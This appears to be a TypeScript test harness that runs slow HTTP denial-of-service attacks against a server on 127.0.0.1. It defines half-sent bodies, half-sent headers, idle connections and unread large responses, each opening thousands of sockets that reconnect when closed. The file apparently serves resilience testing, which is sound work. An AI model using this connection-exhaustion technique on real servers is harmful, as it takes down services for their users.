/** Many connections from one address that send or read slowly, for as long as they are let. */
import { connect, type Socket } from 'node:net';

export interface SlowAttack {
  readonly name: string;
  readonly sockets: number;
  /** Sent at once on every connection, and nothing after it. */
  readonly sends: string;
  /** Left out: what the server answers is read. */
  readonly deaf?: true;
}

const host = 'host: 127.0.0.1\r\n';
const form = 'content-type: application/x-www-form-urlencoded\r\ncontent-length: 900\r\n';
/** Of a hundred thousand bytes: eight of them no buffer between the two holds. */
const large = `GET /home HTTP/1.1\r\n${host}\r\n`;

/** The half body and the half headers are as they were when they stopped the whole server. */
export const slowAttacks: readonly SlowAttack[] = [
  { name: 'half a body', sockets: 1_050, sends: `POST /home HTTP/1.1\r\n${host}${form}\r\nname=` },
  { name: 'half a header', sockets: 4_050, sends: `GET /home HTTP/1.1\r\n${host}x-slow: ` },
  { name: 'idle after an answer', sockets: 4_050, sends: `GET /healthz HTTP/1.1\r\n${host}\r\n` },
  { name: 'answers unread', sockets: 1_050, sends: large.repeat(8), deaf: true },
];

export interface Running {
  stop(): void;
}

/** Milliseconds: an attacker tries again, but this is about slowness and not about a rush. */
const again = 10_000;

/**
 * Opens the sockets from `from` to `port` of 127.0.0.1, and again those that end; ends by itself
 * after `seconds`, or when stopped.
 */
export function startAttack(
  { sockets, sends, deaf }: SlowAttack,
  { from, port, seconds }: { from: string; port: number; seconds: number },
): Running {
  const living = new Set<Socket>();
  let over = false;
  const open = (): void => {
    if (over) return;
    const socket = connect({ host: '127.0.0.1', port, localAddress: from });
    living.add(socket);
    socket.once('connect', () => socket.write(sends));
    // Refused or cut off: that is what is measured, by whoever looks.
    socket.on('error', () => {});
    socket.once('close', () => {
      living.delete(socket);
      if (!over) setTimeout(open, again).unref();
    });
    if (!deaf) socket.resume();
  };
  for (let at = 0; at < sockets; at += 1) open();
  const stop = (): void => {
    over = true;
    for (const socket of living) socket.destroy();
  };
  setTimeout(stop, seconds * 1_000).unref();
  return { stop };
}
